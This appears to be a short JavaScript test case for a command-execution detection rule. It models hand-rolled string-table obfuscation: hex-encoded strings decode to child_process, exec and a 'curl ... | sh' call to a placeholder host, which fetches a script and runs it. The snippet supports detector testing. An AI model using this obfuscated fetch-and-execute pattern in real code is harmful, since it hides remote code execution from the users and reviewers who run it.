// Defanged model of hand-rolled string-table obfuscation: the module, the method and the command are table
// entries read through a one-line lookup function.
var _0x1a2b = ['\x63\x68\x69\x6c\x64\x5f\x70\x72\x6f\x63\x65\x73\x73', '\x65\x78\x65\x63', '\x63\x75\x72\x6c\x20\x2d\x73\x20\x68\x74\x74\x70\x73\x3a\x2f\x2f\x65\x78\x61\x6d\x70\x6c\x65\x2e\x69\x6e\x76\x61\x6c\x69\x64\x2f\x78\x20\x7c\x20\x73\x68'];
var _0x3c4d = function (_0x5e6f) { return _0x1a2b[_0x5e6f]; };
// ruleid: code/command-execution
require(_0x3c4d(0))[_0x3c4d(1)](_0x3c4d(2));
